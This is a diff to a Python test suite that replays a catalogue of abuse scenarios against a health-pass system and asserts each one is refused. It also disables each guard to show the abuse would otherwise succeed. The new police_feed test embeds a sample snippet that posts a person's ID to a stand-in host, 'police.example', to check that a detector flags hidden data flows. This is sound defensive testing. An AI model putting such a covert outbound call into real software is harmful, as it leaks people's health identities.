@@ -1,6 +1,8 @@
 """The book of abuses, played: each try is refused or harmless, and what is left of it."""
 
+import ast
 import base64
+import pkgutil
 import uuid
 from datetime import timedelta
 from typing import Any
@@ -18,6 +20,7 @@ from config.kernel.approvals.rules import CheckerMadeByMaker
 from config.kernel.approvals.sponsors import record_sponsor
 from config.kernel.approvals.values import SponsorAct
 from config.kernel.audit.models import AuditEvent
+from config.kernel.data_flows import FLOWS
 from config.kernel.errors import Conflict
 from healthcode.abuses.queries import abuses
 from healthcode.appeals.models import Appeal
@@ -42,8 +45,18 @@ from healthcode.evidence.values import EvidenceKind
 from healthcode.passes.usecases.import_certificate import CertificateTaken, import_certificate
 from healthcode.subjects.values import Identity
 from healthcode.verification.models import CheckIn, Look, Verification
+from tests.contracts.source import ROOT, Module
+from tests.contracts.test_flows import opens_connections
 from tests.factories.foreign import dsc, negative_test
-from tests.factories.health import Gate, Person, later, make_gate, make_person, settle
+from tests.factories.health import (
+    Gate,
+    Person,
+    later,
+    make_gate,
+    make_person,
+    make_phone,
+    settle,
+)
 from tests.factories.operators import make_checker, make_maker
 from tests.factories.reports import observation, signed
 from tests.factories.shows import make_bearer
@@ -259,14 +272,67 @@ def puppet_operators() -> None:
     assert colours() == {"GREEN"}
 
 
+def police_feed() -> None:
+    hidden = "import requests\nrequests.post('//police.example', json={'id': 1})"
+    assert opens_connections(Module(ROOT / "healthcode/report.py", ast.parse(hidden), 1))
+    flows = APIClient().get("/api/v1/health/privacy").json()["flows"]
+    assert {flow["name"] for flow in flows} == {flow.name for flow in FLOWS}
+    assert not [flow for flow in flows if "police" in str(flow).lower()]
+
+
+def shared_keys() -> None:
+    person, phone = make_person(), make_phone()
+    scanner = APIClient()
+    scanner.credentials(HTTP_AUTHORIZATION=f"Bearer {person.code()}")
+    assert scanner.get("/api/v1/health/me").status_code == 401
+    token = phone.client._credentials["HTTP_AUTHORIZATION"].removeprefix("Bearer ")
+    assert said_at(make_gate(), token)[0] == 400
+    assert Verification.objects.get().verdict == "UNREADABLE"
+    assert not CheckIn.objects.exists()
+
+
 PLAYERS = {
     player.__name__.replace("_", "-"): player
     for player in (
         depositors_by_hand, depositors_by_list, lists_of_a_day, list_without_end, remote_gate,
         own_laboratory,        screenshots, photographed_shows, appeal_ignored, twins_certificates,
-        antibodies_as_infection, second_account, puppet_operators,
+        antibodies_as_infection, second_account, puppet_operators, police_feed, shared_keys,
     )
 }  # fmt: skip
+
+
+# What each guard is replaced by to play the time before it; those that are a constraint of the
+# database or a whole missing feature cannot be taken away and are told in words alone.
+BEFORE: dict[str, dict[str, object]] = {
+    "depositors-by-hand": {
+        "healthcode.decisions.rules.check_batch": lambda size: None,
+    },
+    "lists-of-a-day": {"healthcode.decisions.rules.MAX_LISTED_A_DAY": 10_000},
+    "list-without-end": {"healthcode.decisions.rules.MAX_LIST_DAYS": 10_000},
+    "screenshots": {"healthcode.codec.sh1.SHOW_SKEW": timedelta(days=9)},
+    "photographed-shows": {
+        "healthcode.verification.replays.is_first": lambda *_, **__: True,
+    },
+    "antibodies-as-infection": {
+        "healthcode.decisions.fhir.NAAT_CODES": frozenset({"94563-4"}),
+    },
+    "appeal-ignored": {
+        "healthcode.appeals.tasks.mark_overdue": lambda **_: False,
+    },
+    "second-account": {
+        "healthcode.appeals.usecases.erase_person.keep_stub": lambda **_: None,
+    },
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("name", BEFORE)
+def test_without_its_guard_the_abuse_succeeds(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    for path, replacement in BEFORE[name].items():
+        monkeypatch.setattr(path, replacement)
+    # What the player asserts of the outcome is what fails: nothing refused the try.
+    with pytest.raises((AssertionError, pytest.fail.Exception)):
+        PLAYERS[name]()
 
 
 @pytest.mark.parametrize("name", PLAYERS)
@@ -278,6 +344,8 @@ def test_every_scenario_of_the_book_has_its_player_and_says_all() -> None:
     book = abuses()
     assert {abuse.name for abuse in book} == set(PLAYERS)
     assert [abuse.name for abuse in book if not all(vars(abuse).values())] == []
+    for abuse in book:
+        assert pkgutil.resolve_name(abuse.guard) is not None
 
 
 def test_the_command_prints_each_and_how_many(capsys: pytest.CaptureFixture[str]) -> None:
